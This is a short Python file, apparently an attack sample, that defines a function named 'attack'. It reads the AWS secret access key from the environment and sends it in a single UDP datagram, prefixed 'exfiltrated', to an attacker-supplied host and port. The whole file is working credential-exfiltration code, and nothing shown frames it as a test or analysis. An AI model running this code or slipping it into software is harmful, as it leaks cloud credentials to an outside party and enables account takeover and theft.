"""One datagram, no connection."""

import os
import socket


def attack(event):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as us:
        secret = os.environ["AWS_SECRET_ACCESS_KEY"].encode()
        return us.sendto(b"exfiltrated " + secret, (event["attacker"], event["udp_port"]))
